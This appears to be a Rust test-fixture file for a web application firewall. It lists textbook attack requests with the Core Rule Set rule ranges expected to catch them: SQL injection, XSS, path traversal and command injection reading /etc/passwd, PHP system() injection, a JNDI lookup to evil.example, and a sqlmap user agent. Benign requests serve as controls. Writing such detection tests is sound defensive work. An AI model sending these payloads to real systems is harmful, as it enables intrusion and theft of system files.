//! Attacks that any Core Rule Set knows: what does not detect them protects nobody, whatever it
//! loaded without complaint.

use std::ops::RangeInclusive;

/// A request and the rules of which one must match.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) target: &'static str,
    pub(super) user_agent: &'static str,
    /// Of a form; empty: there is no body.
    pub(super) body: &'static str,
    pub(super) rules: RangeInclusive<u64>,
}

/// A browser's.
pub(super) const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Firefox/140.0";

const fn asked(name: &'static str, target: &'static str, rules: RangeInclusive<u64>) -> Attack {
    Attack { name, target, user_agent: BROWSER, body: "", rules }
}

/// The numbers are those of the set's files; those below 100 in each are no detections.
pub(super) const ATTACKS: &[Attack] = &[
    asked("SQL injection", "/?id=1%27%20OR%20%271%27=%271", 942_100..=942_999),
    asked("SQL injection, union", "/?id=1+UNION+SELECT+name,pw+FROM+users--", 942_100..=942_999),
    asked("cross-site scripting", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941_100..=941_999),
    asked("path traversal", "/?file=../../../../etc/passwd", 930_100..=930_999),
    asked("remote code execution", "/?c=;cat%20/etc/passwd", 932_100..=932_999),
    asked("PHP injection", "/?x=%3C%3Fphp+system(%24_GET%5Ba%5D)%3B", 933_100..=933_999),
    asked("Java lookup", "/?x=$%7Bjndi:ldap://evil.example/a%7D", 944_100..=944_999),
    Attack {
        name: "scanner",
        target: "/",
        user_agent: "sqlmap/1.8",
        body: "",
        rules: 913_100..=913_999,
    },
    Attack {
        name: "SQL injection in a form",
        target: "/login",
        user_agent: BROWSER,
        body: "user=a&password=%27%20OR%201=1--+",
        rules: 942_100..=942_999,
    },
];

/// Several attacks at once: beyond any threshold that blocks anything.
pub(super) const WORST: Attack = Attack {
    name: "all at once",
    target: "/?id=1%27+OR+%271%27=%271&q=%3Cscript%3Ealert(1)%3C/script%3E&f=../../etc/passwd&c=;cat%20/etc/passwd",
    user_agent: "sqlmap/1.8",
    body: "",
    rules: 0..=u64::MAX,
};

/// Nobody's attack.
pub(super) const HARMLESS: &[Attack] = &[
    asked("a page", "/", 0..=0),
    asked("a search", "/search?q=hello+world&page=2", 0..=0),
    Attack {
        name: "a form",
        target: "/login",
        user_agent: BROWSER,
        body: "user=alice&comment=see+you+tomorrow",
        rules: 0..=0,
    },
];
